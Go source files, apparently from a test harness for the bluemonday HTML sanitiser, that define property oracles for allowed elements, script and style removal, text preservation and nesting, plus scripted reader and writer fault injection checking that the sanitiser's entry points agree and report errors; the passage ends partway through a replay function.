func hasTag(toks []Tok) bool {
	for _, t := range toks {
		if isTag(t) {
			return true
		}
	}
	return false
}

func init() {
	Applies["C06"] = func(x *Exec) bool {
		for _, n := range c06Raw {
			if x.Model.Known(n) {
				return false
			}
		}
		for _, t := range x.InToks {
			if isTag(t) && (unsafeName(t.N) || inSet(x.Model.Skip, t.N)) {
				return false
			}
		}
		return hasTag(x.InToks)
	}
	Applies["C08"] = func(x *Exec) bool {
		if _, ok := openStack(x.InToks); !ok {
			return false
		}
		for _, t := range x.InToks {
			if t.T == "start" && !(unsafeName(t.N) && !x.Model.Unsafe) && !x.Model.Known(t.N) && inSet(x.Model.Skip, t.N) && !VoidEls[t.N] {
				return true
			}
		}
		return false
	}
	Applies["C09"] = func(x *Exec) bool {
		_, ok := openStack(x.InToks)
		return ok && hasTag(x.InToks)
	}
	Applies["C07"] = func(x *Exec) bool {
		return hasTag(x.InToks) && x.Model.Conforming(x.InToks) && string(Serialise(x.InToks, nil)) == string(x.Input)
	}
	Applies["C20"] = func(x *Exec) bool { return hasTag(x.OutToks) && (x.Model.InClass20() || ugcException(x)) }
	Applies["C05"] = func(x *Exec) bool {
		for _, t := range x.InToks {
			if isTag(t) && unsafeName(t.N) {
				return true
			}
		}
		return false
	}
	Applies["C03"] = func(x *Exec) bool {
		if !x.Model.Parseable {
			return false
		}
		for _, t := range x.InToks {
			for _, a := range t.A {
				if UrlPos(t.N, a.K) {
					return true
				}
			}
		}
		return false
	}
	Applies["C11"] = func(x *Exec) bool {
		if !x.Model.anyLinkOption() {
			return false
		}
		for _, et := range emittedTags(x) {
			if _, ok := firstAttr(et.After, "href"); ok && hrefEls[et.N] {
				return true
			}
		}
		return false
	}
	Applies["C12"] = func(x *Exec) bool {
		for _, t := range x.OutToks {
			if (x.Model.CrossOrigin && crossEls[t.N] || x.Model.SandboxOn && t.N == "iframe") && len(t.A) > 0 {
				return true
			}
		}
		return false
	}
	Applies["C10"] = func(x *Exec) bool {
		for _, t := range x.InToks {
			for _, a := range t.A {
				if a.K == "style" && x.Model.hasStyleRules(t.N) && x.Model.Known(t.N) {
					return true
				}
			}
		}
		return false
	}
	Applies["C02"] = func(x *Exec) bool { return len(emittedTags(x)) > 0 }
	Applies["C01"] = func(x *Exec) bool { return hasTag(x.InToks) }
}

func isTag(t Tok) bool { return t.T == "start" || t.T == "end" || t.T == "self" }

var VoidEls = map[string]bool{"area": true, "base": true, "br": true, "col": true, "embed": true, "frame": true,
	"hr": true, "img": true, "input": true, "keygen": true, "link": true, "meta": true, "param": true,
	"source": true, "track": true, "wbr": true}

var RawEls = map[string]bool{"iframe": true, "noembed": true, "noframes": true, "noscript": true, "plaintext": true,
	"script": true, "style": true, "textarea": true, "title": true, "xmp": true}

func unsafeName(n string) bool { return n == "script" || n == "style" }

// ---------------------------------------------------------------------------
// C01: only allowlisted elements; comments only when allowed; never a doctype.
func oracleC01(x *Exec) []Finding {
	if x.Model.Unsafe {
		return nil
	}
	var fs []Finding
	for _, t := range x.OutToks {
		switch {
		case isTag(t) && !x.Model.Known(t.N):
			fs = append(fs, Finding{"C01", "tok:" + t.T + ":" + t.N, fmt.Sprintf("output token %s names an element the policy does not allow", t)})
		case t.T == "comment" && !x.Model.Comments:
			fs = append(fs, Finding{"C01", "tok:comment", fmt.Sprintf("comment %q in output although comments are not allowed", t.D)})
		case t.T == "doctype":
			fs = append(fs, Finding{"C01", "tok:doctype", "doctype in output"})
		}
	}
	if len(fs) > 0 {
		return fs
	}
	for _, ctx := range VerdictContexts {
		nodes, err := ParseIn(x.Output, ctx)
		if err != nil {
			continue
		}
		for _, n := range nodes {
			switch n.Kind {
			case "element":
				ln := asciiLower(n.Name)
				if !x.Model.Known(ln) && !ImpliedElements[ln] {
					fs = append(fs, Finding{"C01", "dom:" + ln, fmt.Sprintf("DOM (in <%s>) contains element <%s> the policy does not allow", ctx, n.Name)})
				}
			case "comment":
				if !x.Model.Comments {
					fs = append(fs, Finding{"C01", "dom:comment", fmt.Sprintf("DOM (in <%s>) contains comment %q", ctx, n.Data)})
				}
			case "doctype":
				fs = append(fs, Finding{"C01", "dom:doctype", "DOM contains a doctype"})
			}
		}
		if len(fs) > 0 {
			return fs
		}
	}
	return fs
}

// ---------------------------------------------------------------------------
// C05: script/style never survive, nor their bodies, unless AllowUnsafe(true).
func oracleC05(x *Exec) []Finding {
	if x.Model.Unsafe {
		return nil
	}
	var fs []Finding
	for _, t := range x.OutToks {
		if isTag(t) && unsafeName(t.N) {
			fs = append(fs, Finding{"C05", "tok:" + t.N, fmt.Sprintf("output token %s", t)})
		}
	}
	for _, ctx := range VerdictContexts {
		nodes, err := ParseIn(x.Output, ctx)
		if err != nil {
			continue
		}
		for _, n := range nodes {
			if n.Kind == "element" && unsafeName(asciiLower(n.Name)) {
				fs = append(fs, Finding{"C05", "dom:" + n.Name, fmt.Sprintf("DOM (in <%s>) contains <%s>", ctx, n.Name)})
			}
		}
		if len(fs) > 0 {
			break
		}
	}
	// bodies: the text token directly after a script/style start or self-closing tag
	outside := ""
	bodies := []string{}
	for i, t := range x.InToks {
		if t.T != "text" {
			continue
		}
		if i > 0 && (x.InToks[i-1].T == "start" || x.InToks[i-1].T == "self") && unsafeName(x.InToks[i-1].N) {
			bodies = append(bodies, t.D)
		} else {
			outside += t.D + "\x00"
		}
	}
	outText := TextOf(x.OutToks)
	for _, b := range bodies {
		m := strings.TrimSpace(b)
		if len(m) < 3 || strings.Contains(outside, m) {
			continue // not distinctive
		}
		if strings.Contains(outText, m) {
			fs = append(fs, Finding{"C05", "body", fmt.Sprintf("script/style body %q appears in the output", m)})
		} else if strings.Contains(string(x.Output), m) && x.Real != nil {
			// the body also shows up in the raw output: that is the body having been written only if
			// the same document without the body does not produce it (a body such as "</p>" may
			// coincide with markup that legitimately comes from elsewhere in the document)
			if !strings.Contains(x.Real.Sanitize(string(withoutBody(x.InToks, b))), m) {
				fs = append(fs, Finding{"C05", "body", fmt.Sprintf("script/style body %q appears in the raw output", m)})
			}
		}
	}
	return fs
}

// withoutBody re-serialises the tokens with the script/style body d left out.
func withoutBody(toks []Tok, d string) []byte {
	var keep []Tok
	done := false
	for i, t := range toks {
		if !done && t.T == "text" && t.D == d && i > 0 && (toks[i-1].T == "start" || toks[i-1].T == "self") && unsafeName(toks[i-1].N) {
			done = true
			continue
		}
		keep = append(keep, t)
	}
	return Serialise(keep, nil)
}

// ---------------------------------------------------------------------------
// C06: text preserved exactly; one space per removed tag; text never becomes markup.
var c06Raw = []string{"iframe", "noembed", "noframes", "noscript", "plaintext", "xmp"}

func oracleC06(x *Exec) []Finding {
	if x.Model.Unsafe {
		return nil
	}
	var fs []Finding
	// text never becomes markup: the output's tags are a subsequence of the input's tags
	j := 0
	for _, t := range x.OutToks {
		if !isTag(t) {
			continue
		}
		found := false
		for j < len(x.InToks) {
			u := x.InToks[j]
			j++
			if u.T == t.T && u.N == t.N {
				found = true
				break
			}
		}
		if !found {
			fs = append(fs, Finding{"C06", "markup", fmt.Sprintf("output tag %s does not come from an input tag", t)})
			return fs
		}
	}
	for _, n := range c06Raw {
		if x.Model.Known(n) {
			return fs
		}
	}
	for _, t := range x.InToks {
		if isTag(t) && (unsafeName(t.N) || inSet(x.Model.Skip, t.N)) {
			return fs
		}
	}
	// expected character data, token by token
	if x.Rec == nil || len(x.Rec.Toks) != len(x.InToks) {
		return fs
	}
	var want strings.Builder
	for i, t := range x.InToks {
		switch {
		case t.T == "text":
			want.WriteString(t.D)
		case isTag(t) && x.Model.AddSpaces:
			kept := false
			for _, w := range x.Rec.Toks[i].Writes {
				if isTag(w.Tok) {
					kept = true
				}
			}
			if !kept {
				want.WriteString(" ")
			}
		}
	}
	if got := TextOf(x.OutToks); got != want.String() {
		fs = append(fs, Finding{"C06", "text", fmt.Sprintf("character data differs: got %q want %q", got, want.String())})
	}
	return fs
}

// ---------------------------------------------------------------------------
// structure of token sequences (the oracle's own reading)

// openStack returns the stack of open non-void elements, ok=false if an end tag
// does not match the innermost open element.
func openStack(toks []Tok) (stack []string, ok bool) {
	for _, t := range toks {
		switch t.T {
		case "start":
			if !VoidEls[t.N] {
				stack = append(stack, t.N)
			}
		case "end":
			if VoidEls[t.N] || len(stack) == 0 || stack[len(stack)-1] != t.N {
				return nil, false
			}
			stack = stack[:len(stack)-1]
		}
	}
	return stack, true
}

// C09: well-nested input yields well-nested output (balance form).
func oracleC09(x *Exec) []Finding {
	in, ok := openStack(x.InToks)
	if !ok {
		return nil
	}
	out, ok2 := openStack(x.OutToks)
	if !ok2 {
		return []Finding{{"C09", "stray-end", fmt.Sprintf("input is well nested but the output has a stray end tag: %s", ToksString(x.OutToks))}}
	}
	if len(in) == 0 && len(out) != 0 {
		return []Finding{{"C09", "unclosed", fmt.Sprintf("every element of the input is closed but the output leaves %v open", out)}}
	}
	return nil
}

// C08: content of disallowed skip-content elements is removed, everything outside is kept.
func oracleC08(x *Exec) []Finding {
	if _, ok := openStack(x.InToks); !ok {
		return nil
	}
	// script/style are removed outright (tags and body) unless AllowUnsafe(true); with AllowUnsafe they are
	// ordinary elements and open a skipped region like any other disallowed skip-content element
	blocked := func(n string) bool { return unsafeName(n) && !x.Model.Unsafe }
	opener := func(t Tok) bool {
		return t.T == "start" && !blocked(t.N) && !x.Model.Known(t.N) && inSet(x.Model.Skip, t.N) && !VoidEls[t.N]
	}
	// classify each input token as inside/outside a skipped region
	var fs []Finding
	depth := 0 // number of elements open inside the current region (0 = outside)
	inside := make([]bool, len(x.InToks))
	for i, t := range x.InToks {
		if depth == 0 {
			if opener(t) {
				depth = 1
				inside[i] = true
			}
			continue
		}
		inside[i] = true
		switch t.T {
		case "start":
			if !VoidEls[t.N] {
				depth++
			}
		case "end":
			depth--
		}
	}
	count := func(s string) int {
		n := 0
		for _, t := range x.InToks {
			if (t.T == "text" || t.T == "comment") && strings.Contains(t.D, s) {
				n++
			}
			for _, a := range t.A {
				if strings.Contains(a.V, s) {
					n++
				}
			}
		}
		return n
	}
	outText := TextOf(x.OutToks)
	outAll := string(x.Output)
	// a piece of input text is present if the output's character data contains it, or the output
	// bytes carry it literally or escaped (inside an allowed raw-text element it is read back escaped)
	present := func(m string) bool {
		return strings.Contains(outText, m) || strings.Contains(outAll, m) || strings.Contains(outAll, html.EscapeString(m))
	}
	for i, t := range x.InToks {
		switch t.T {
		case "text":
			m := strings.TrimSpace(t.D)
			if len(m) < 3 || count(m) != 1 {
				continue
			}
			body := i > 0 && (x.InToks[i-1].T == "start" || x.InToks[i-1].T == "self") && blocked(x.InToks[i-1].N)
			if inside[i] && strings.Contains(outText, m) {
				fs = append(fs, Finding{"C08", "leak-text", fmt.Sprintf("text %q inside a skipped element appears in the output", m)})
			}
			if !inside[i] && !body && !present(m) {
				fs = append(fs, Finding{"C08", "lost-text", fmt.Sprintf("text %q outside every skipped element is missing from the output", m)})
			}
		case "comment":
			m := strings.TrimSpace(t.D)
			if len(m) >= 3 && count(m) == 1 && inside[i] && inOutputData(x.OutToks, m) {
				fs = append(fs, Finding{"C08", "leak-comment", fmt.Sprintf("comment %q inside a skipped element appears in the output", m)})
			}
		case "start", "self":
			if !inside[i] {
				continue
			}
			for _, a := range t.A {
				// (a marker must be distinctive: white space or punctuation alone proves nothing)
				if m := strings.TrimSpace(a.V); len(m) >= 3 && strings.ContainsAny(m, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") &&
					count(a.V) == 1 && inOutputData(x.OutToks, a.V) {
					fs = append(fs, Finding{"C08", "leak-markup", fmt.Sprintf("attribute value %q of a tag inside a skipped element appears in the output", a.V)})
				}
			}
		}
	}
	// markup nested inside must not appear: no output tag may come from an inside tag
	if len(fs) == 0 {
		j := 0
		for _, t := range x.OutToks {
			if !isTag(t) {
				continue
			}
			for j < len(x.InToks) && !(x.InToks[j].T == t.T && x.InToks[j].N == t.N && !inside[j]) {
				j++
			}
			if j >= len(x.InToks) {
				fs = append(fs, Finding{"C08", "leak-tag", fmt.Sprintf("output tag %s can only come from inside a skipped element", t)})
				break
			}
			j++
		}
	}
	return fs
}

// inOutputData: does s occur in the character data, comment data or an attribute value of the output?
func inOutputData(toks []Tok, s string) bool {
	if strings.Contains("nofollow noreferrer noopener _blank anonymous", s) {
		return false // the sanitiser's own vocabulary proves nothing about where it came from
	}
	for _, t := range toks {
		if strings.Contains(t.D, s) {
			return true
		}
		for _, a := range t.A {
			if strings.Contains(a.V, s) {
				return true
			}
		}
	}
	return false
}

func init() {
	Oracles["C01"] = oracleC01
	Oracles["C05"] = oracleC05
	Oracles["C06"] = oracleC06
	Oracles["C08"] = oracleC08
	Oracles["C09"] = oracleC09
}
