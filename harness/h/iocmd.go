package h

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"

	bm "github.com/microcosm-cc/bluemonday"
)

// ---------------------------------------------------------------------------
// scripted environment

var errInjectedRead = errors.New("verif: injected read failure")
var errInjectedWrite = errors.New("verif: injected write failure")

// ReaderScript: how the source delivers the input.
type ReaderScript struct {
	Cuts        []int `json:"cuts"`          // chunk boundaries (byte offsets, ascending); nil = everything at once
	OneByte     bool  `json:"one_byte"`      // one byte per Read
	ZeroReads   int   `json:"zero_reads"`    // zero-length reads inserted before every chunk
	EOFWithData bool  `json:"eof_with_data"` // the last chunk is returned together with io.EOF
	FailAt      int   `json:"fail_at"`       // byte offset at which Read starts failing with a non-EOF error (-1 = never)
	ErrKind     int   `json:"err_kind"`      // which non-EOF error the source fails with (index into readErrors)
}

// the non-EOF errors a source may fail with
var readErrors = []error{errInjectedRead, io.ErrUnexpectedEOF, io.ErrClosedPipe, os.ErrDeadlineExceeded, io.ErrShortBuffer}

type scriptReader struct {
	data   []byte
	s      ReaderScript
	pos    int
	zeros  int
	bounds []int
}

func newScriptReader(data []byte, s ReaderScript) *scriptReader {
	r := &scriptReader{data: data, s: s}
	limit := len(data)
	if s.FailAt >= 0 && s.FailAt < limit {
		limit = s.FailAt
	}
	if s.OneByte {
		for i := 1; i <= limit; i++ {
			r.bounds = append(r.bounds, i)
		}
	} else {
		for _, c := range s.Cuts {
			if c > 0 && c < limit {
				r.bounds = append(r.bounds, c)
			}
		}
		r.bounds = append(r.bounds, limit)
	}
	return r
}

func (r *scriptReader) Read(p []byte) (int, error) {
	if r.zeros < r.s.ZeroReads {
		r.zeros++
		return 0, nil
	}
	limit := len(r.data)
	failing := r.s.FailAt >= 0 && r.s.FailAt <= len(r.data)
	if failing {
		limit = r.s.FailAt
	}
	if r.pos >= limit {
		if failing {
			return 0, readErrors[r.s.ErrKind%len(readErrors)]
		}
		return 0, io.EOF
	}
	end := limit
	for _, b := range r.bounds {
		if b > r.pos {
			end = b
			break
		}
	}
	n := copy(p, r.data[r.pos:end])
	r.pos += n
	r.zeros = 0
	if r.pos >= limit && !failing && r.s.EOFWithData {
		return n, io.EOF
	}
	return n, nil
}

// WriterScript: what kind of destination, and which write fails.
type WriterScript struct {
	Kind   string `json:"kind"`    // "string" (has WriteString) | "plain"
	FailAt int    `json:"fail_at"` // 1-based index of the write that fails (0 = none)
	Mode   string `json:"mode"`    // "transient" | "permanent"
	// the failing write accepts the first half of its bytes before reporting the error (io.Writer allows n > 0 with err != nil)
	Partial bool `json:"partial,omitempty"`
	// the error the failing write returns: "" = a private error value, "eof" = io.EOF itself, "ueof" = io.ErrUnexpectedEOF
	ErrKind string `json:"err_kind,omitempty"`
	// the destination also has a Flush() error method (which succeeds)
	Flusher bool `json:"flusher,omitempty"`
	// the destination also implements io.ReaderFrom (like *bytes.Buffer and *bufio.Writer)
	ReaderFrom bool `json:"reader_from,omitempty"`
}

type faultWriter struct {
	s             WriterScript
	accepted      bytes.Buffer
	calls         int
	callsAfterErr int
	failed        bool
}

func (w *faultWriter) write(p []byte) (int, error) {
	w.calls++
	if w.failed {
		w.callsAfterErr++
	}
	if w.s.FailAt != 0 && (w.calls == w.s.FailAt || (w.s.Mode == "permanent" && w.calls > w.s.FailAt)) {
		w.failed = true
		err := errInjectedWrite
		switch w.s.ErrKind {
		case "eof":
			err = io.EOF
		case "ueof":
			err = io.ErrUnexpectedEOF
		}
		if w.s.Partial && len(p) >= 2 {
			n, _ := w.accepted.Write(p[:len(p)/2])
			return n, err
		}
		return 0, err
	}
	return w.accepted.Write(p)
}

// flushWriter: a destination with a Flush method that always succeeds (a failed write must still be reported, and nothing may be
// done to the destination after it)
type flushWriter struct{ w *faultWriter }

func (p flushWriter) Write(b []byte) (int, error) { return p.w.write(b) }
func (p flushWriter) Flush() error {
	if p.w.failed {
		p.w.callsAfterErr++
	}
	return nil
}

// readFromWriter: a destination that also has ReadFrom; whatever route the data takes, failures must be reported
type readFromWriter struct{ w *faultWriter }

func (p readFromWriter) Write(b []byte) (int, error)       { return p.w.write(b) }
func (p readFromWriter) WriteString(s string) (int, error) { return p.w.write([]byte(s)) }
func (p readFromWriter) ReadFrom(r io.Reader) (int64, error) {
	var n int64
	buf := make([]byte, 512)
	for {
		k, err := r.Read(buf)
		if k > 0 {
			m, werr := p.w.write(buf[:k])
			n += int64(m)
			if werr != nil {
				return n, werr
			}
		}
		if err == io.EOF {
			return n, nil
		}
		if err != nil {
			return n, err
		}
	}
}

type plainWriter struct{ w *faultWriter }

func (p plainWriter) Write(b []byte) (int, error) { return p.w.write(b) }

type stringWriter struct{ w *faultWriter }

func (p stringWriter) Write(b []byte) (int, error)       { return p.w.write(b) }
func (p stringWriter) WriteString(s string) (int, error) { return p.w.write([]byte(s)) }

// IOResult is one real call under a scripted environment.
type IOResult struct {
	Entry        string
	Out          []byte // what the caller got (returned value, or what the destination accepted)
	Err          error  // SanitizeReaderToWriter's result
	Rec          *CallRec
	CallsAfter   int // destination writes attempted after the first failed write
	WriterCalls  int
	InputChanged bool
	Panic        string
}

// RunIO runs one entry point.
func RunIO(p *bm.Policy, entry string, input []byte, rs ReaderScript, ws WriterScript) (res *IOResult) {
	InstallHooks()
	res = &IOResult{Entry: entry, Rec: &CallRec{Pid: 1}}
	SetCurrent(res.Rec)
	defer SetCurrent(nil)
	defer func() {
		if e := recover(); e != nil {
			res.Panic = fmt.Sprint(e)
			res.Rec.Panic = res.Panic
		}
	}()
	switch entry {
	case "Sanitize":
		res.Out = []byte(p.Sanitize(string(input)))
	case "SanitizeBytes":
		cp := append([]byte{}, input...)
		res.Out = append([]byte{}, p.SanitizeBytes(cp)...)
		res.InputChanged = !bytes.Equal(cp, input)
	case "SanitizeReader":
		res.Out = p.SanitizeReader(newScriptReader(input, rs)).Bytes()
	case "SanitizeReaderToWriter":
		fw := &faultWriter{s: ws}
		var w io.Writer = stringWriter{fw}
		if ws.Kind == "plain" {
			w = plainWriter{fw}
		}
		if ws.Flusher {
			w = flushWriter{fw}
		}
		if ws.ReaderFrom {
			w = readFromWriter{fw}
		}
		res.Err = p.SanitizeReaderToWriter(newScriptReader(input, rs), w)
		res.Out = fw.accepted.Bytes()
		res.CallsAfter = fw.callsAfterErr
		res.WriterCalls = fw.calls
	}
	return res
}

// ---------------------------------------------------------------------------
// replay of MC_IO cases

type ioDoc struct {
	Blank bool  `json:"blank"`
	Toks  []Tok `json:"toks"`
}

type ioEnv struct {
	Entry    string `json:"entry"`
	Wkind    string `json:"wkind"`
	FailAt   int    `json:"failAt"`
	FailMode string `json:"failMode"`
	Rfail    int    `json:"rfail"`
	Blank    bool   `json:"blank"`
}

type ioWrite struct {
	Tok Tok  `json:"tok"`
	Ok  bool `json:"ok"`
}

type ioCase struct {
	Rid      int       `json:"rid"`
	Did      int       `json:"did"`
	Env      ioEnv     `json:"env"`
	Writes   []ioWrite `json:"writes"`
	Status   string    `json:"status"`
	RetErr   bool      `json:"reterr"`
	Returned string    `json:"returned"`
	Pos      int       `json:"pos"`
}

func (r *RunResult) addViolation(f Finding, x *Exec, seen map[string]bool) {
	r.violate([]Finding{f}, x, r.Job, seen)
}

// chunkings enumerates reader scripts for an input: whole, one byte at a time, every single cut,
// every pair of cuts for short inputs, zero-length reads, data delivered together with EOF.
func chunkings(n int, rng *rand.Rand, exhaustive bool) []ReaderScript {
	out := []ReaderScript{{FailAt: -1}, {OneByte: true, FailAt: -1}, {OneByte: true, ZeroReads: 2, FailAt: -1}, {EOFWithData: true, FailAt: -1},
		{OneByte: true, EOFWithData: true, FailAt: -1}, {ZeroReads: 1, FailAt: -1}}
	if exhaustive && n <= 64 {
		for i := 1; i < n; i++ {
			out = append(out, ReaderScript{Cuts: []int{i}, FailAt: -1, EOFWithData: i%2 == 0})
		}
		if n <= 28 {
			for i := 1; i < n; i++ {
				for j := i + 1; j < n; j++ {
					out = append(out, ReaderScript{Cuts: []int{i, j}, FailAt: -1})
				}
			}
		}
	} else {
		for k := 0; k < 12 && n > 1; k++ {
			c := []int{1 + rng.Intn(n-1)}
			if rng.Intn(2) == 0 && n > 2 {
				c = append(c, 1+rng.Intn(n-1))
				sort.Ints(c)
			}
			out = append(out, ReaderScript{Cuts: c, FailAt: -1, ZeroReads: rng.Intn(2), EOFWithData: rng.Intn(2) == 0})
		}
	}
	return out
}

var rawInputs = []string{"<b>x</b>" + strings.Repeat("y", 5000) + "<b>z</b>", "<b title=\"" + strings.Repeat("t", 4500) + "\">q</b>w", "a\rb", "x\r\ny\r", "plain text only", "tab\there  and   spaces", "nul\x00byte", "caf\xc3\xa9 \xff\xfe", "\r", "1 < 2", "a\r<b>c\r\n</b>", "AT&T", "q\"uote'"}

// checkAgreement: C15 on one (policy, input).
func checkAgreement(res *RunResult, recipe Recipe, model *AP, real *bm.Policy, input []byte, rng *rand.Rand, exhaustive bool, seen map[string]bool) {
	ref := RunIO(real, "Sanitize", input, ReaderScript{FailAt: -1}, WriterScript{})
	res.Execs++
	x := NewExec(recipe, model, real, input, ref.Out, ref.Rec)
	blank := strings.TrimSpace(string(input)) == ""
	if blank {
		if !bytes.Equal(ref.Out, input) {
			res.addViolation(Finding{"C15", "blank-sanitize", fmt.Sprintf("Sanitize changed whitespace-only input %q to %q", input, ref.Out)}, x, seen)
		}
		sb := RunIO(real, "SanitizeBytes", input, ReaderScript{FailAt: -1}, WriterScript{})
		res.Execs++
		if !bytes.Equal(sb.Out, input) {
			res.addViolation(Finding{"C15", "blank-bytes", fmt.Sprintf("SanitizeBytes changed whitespace-only input %q to %q", input, sb.Out)}, x, seen)
		}
		if len(input) == 0 {
			return
		}
		// the reader entry points sanitise whitespace like any other text
		ref = RunIO(real, "SanitizeReader", input, ReaderScript{FailAt: -1}, WriterScript{})
		res.Execs++
	} else {
		sb := RunIO(real, "SanitizeBytes", input, ReaderScript{FailAt: -1}, WriterScript{})
		res.Execs++
		if !bytes.Equal(sb.Out, ref.Out) {
			res.addViolation(Finding{"C15", "bytes-differs", fmt.Sprintf("SanitizeBytes(%q) = %q but Sanitize gives %q", input, sb.Out, ref.Out)}, x, seen)
		}
		if sb.InputChanged {
			res.addViolation(Finding{"C15", "input-modified", fmt.Sprintf("SanitizeBytes modified the caller's buffer for input %q", input)}, x, seen)
		}
		// a result handed to the caller stays what it was, whatever is sanitised afterwards
		held := real.SanitizeBytes(append([]byte{}, input...))
		real.SanitizeBytes([]byte("<p>another, longer document that is sanitised after the first one &amp; more</p><i>x</i>"))
		real.Sanitize("and <b>one</b> more")
		if !bytes.Equal(held, ref.Out) {
			res.addViolation(Finding{"C15", "result-overwritten", fmt.Sprintf("the slice returned by SanitizeBytes(%q) changed after later calls: now %q, was %q", input, held, ref.Out)}, x, seen)
		}
	}
	for _, rs := range chunkings(len(input), rng, exhaustive) {
		for _, e := range []struct {
			entry, kind string
		}{{"SanitizeReader", ""}, {"SanitizeReaderToWriter", "string"}, {"SanitizeReaderToWriter", "plain"}} {
			r := RunIO(real, e.entry, input, rs, WriterScript{Kind: e.kind})
			res.Execs++
			if r.Panic != "" {
				res.addViolation(Finding{"C15", "panic", fmt.Sprintf("%s panicked on %q: %s", e.entry, input, r.Panic)}, x, seen)
				continue
			}
			if r.Err != nil {
				res.addViolation(Finding{"C15", "spurious-error", fmt.Sprintf("%s returned %v on %q with reader script %+v", e.entry, r.Err, input, rs)}, x, seen)
			}
			if !bytes.Equal(r.Out, ref.Out) {
				res.addViolation(Finding{"C15", "differs:" + e.entry + ":" + e.kind, fmt.Sprintf("%s (%s writer, reader script %+v) on %q gives %q, Sanitize gives %q", e.entry, e.kind, rs, input, r.Out, ref.Out)}, x, seen)
			}
		}
	}
}

// checkWriteFaults: C16 write clause on one (policy, input): every write index, both modes, both kinds.
func checkWriteFaults(res *RunResult, recipe Recipe, model *AP, real *bm.Policy, input []byte, seen map[string]bool) int {
	ref := RunIO(real, "SanitizeReaderToWriter", input, ReaderScript{FailAt: -1}, WriterScript{Kind: "string"})
	res.Execs++
	x := NewExec(recipe, model, real, input, ref.Out, ref.Rec)
	n := ref.WriterCalls
	for k := 1; k <= n; k++ {
		for _, mode := range []string{"transient", "permanent"} {
			for _, kp := range []struct {
				kind    string
				partial bool
				errKind string
				flusher bool
			}{{"string", false, "", false}, {"plain", false, "", false}, {"string", true, "", false}, {"plain", true, "", false},
				{"string", false, "eof", false}, {"plain", false, "ueof", false}, {"plain", false, "", true}, {"plain", false, "eof", true}, {"readfrom", false, "", false}} {
				kind := kp.kind
				r := RunIO(real, "SanitizeReaderToWriter", input, ReaderScript{FailAt: -1},
					WriterScript{Kind: kind, FailAt: k, Mode: mode, Partial: kp.partial, ErrKind: kp.errKind, Flusher: kp.flusher, ReaderFrom: kind == "readfrom"})
				res.Execs++
				what := fmt.Sprintf("write %d of %d fails (%s, %s writer) on %q", k, n, mode, kind, input)
				if kp.partial {
					what = fmt.Sprintf("write %d of %d accepts half of its bytes and fails (%s, %s writer) on %q", k, n, mode, kind, input)
				}
				if kp.errKind != "" {
					what += " [the write error is " + map[string]string{"eof": "io.EOF", "ueof": "io.ErrUnexpectedEOF"}[kp.errKind] + "]"
				}
				if kp.flusher {
					what += " [destination with a Flush method]"
				}
				if r.Err == nil {
					res.addViolation(Finding{"C16", "write-error-lost", what + ": SanitizeReaderToWriter returned nil"}, x, seen)
				}
				if r.CallsAfter > 0 {
					res.addViolation(Finding{"C16", "writes-after-failure", fmt.Sprintf("%s: %d further write(s) after the failure", what, r.CallsAfter)}, x, seen)
				}
				if !bytes.HasPrefix(ref.Out, r.Out) {
					res.addViolation(Finding{"C16", "not-a-prefix", fmt.Sprintf("%s: accepted %q is not a prefix of the fault-free output %q", what, r.Out, ref.Out)}, x, seen)
				}
			}
		}
	}
	return n
}

// checkReadFaults: C16 read clause: the source starts failing at each offset.
func checkReadFaults(res *RunResult, recipe Recipe, model *AP, real *bm.Policy, input []byte, offsets []int, seen map[string]bool) {
	x := NewExec(recipe, model, real, input, nil, nil)
	for i, off := range offsets {
		for _, one := range []bool{false, true} {
			rs := ReaderScript{FailAt: off, OneByte: one, ErrKind: i}
			for _, kind := range []string{"string", "plain", "readfrom", "flusher"} {
				r := RunIO(real, "SanitizeReaderToWriter", input, rs, WriterScript{Kind: kind, ReaderFrom: kind == "readfrom", Flusher: kind == "flusher"})
				res.Execs++
				if r.Err == nil {
					res.addViolation(Finding{"C16", "read-error-lost", fmt.Sprintf("source fails at byte %d of %q but SanitizeReaderToWriter (%s writer) returned nil", off, input, kind)}, x, seen)
				}
			}
			b := RunIO(real, "SanitizeReader", input, rs, WriterScript{})
			res.Execs++
			if len(b.Out) != 0 {
				res.addViolation(Finding{"C16", "read-error-buffer", fmt.Sprintf("source fails at byte %d of %q but SanitizeReader returned %q instead of an empty buffer", off, input, b.Out)}, x, seen)
			}
		}
	}
}

// cmdReplayIO: CASE lines of MC_IO.
func cmdReplayIO(args []string) int {
	fs := flag.NewFlagSet("replayio", flag.ExitOnError)
	famPath := fs.String("fam", "", "")
	props := fs.String("props", "C15,C16", "")
	_ = fs.Int("variants", 1, "")
	seed := fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "replayio", "")
	fs.Parse(args)
	var fam struct {
		Recipes []Recipe `json:"recipes"`
		Docs    []ioDoc  `json:"docs"`
	}
	if err := LoadJSONFile(*famPath, &fam); err != nil {
		fmt.Fprintln(os.Stderr, "replayio:", err)
		return 2
	}
	want := map[string]bool{}
	for _, p := range splitProps(*props) {
		want[p] = true
	}
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	rng := rand.New(rand.NewSource(*seed))
	seen := map[string]bool{}
	type pe struct {
		real  *bm.Policy
		model *AP
	}
	pols := map[int]*pe{}
	agreed := map[string]bool{}
	nt := map[string]bool{}
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	for {
		line, err := in.ReadString('\n')
		if js, ok := parseCaseLine(strings.TrimRight(line, "\r\n")); ok {
			var c ioCase
			if e := json.Unmarshal([]byte(js), &c); e != nil {
				fmt.Fprintln(os.Stderr, "replayio: bad case:", e)
				return 2
			}
			res.Cases++
			recipe := fam.Recipes[c.Rid-1]
			p := pols[c.Rid]
			if p == nil {
				p = &pe{BuildReal(recipe), BuildAP(recipe)}
				pols[c.Rid] = p
			}
			toks := []Tok{}
			for _, t := range fam.Docs[c.Did-1].Toks {
				toks = append(toks, DecTok(t))
			}
			input := Serialise(toks, nil)
			if fam.Docs[c.Did-1].Blank {
				// a blank document is given byte for byte (carriage returns stay carriage returns): it never reaches the tokenizer
				var raw bytes.Buffer
				for _, t := range toks {
					raw.WriteString(t.D)
				}
				input = raw.Bytes()
				if c.Status != "blank" && !ReadsBackAs(input, toks) {
					// the reader entry points do tokenise blank input; a carriage return is then not what the tokenizer hands on,
					// so the token-level prediction does not apply to this document (the entry-point comparison still runs)
					res.Dropped++
					continue
				}
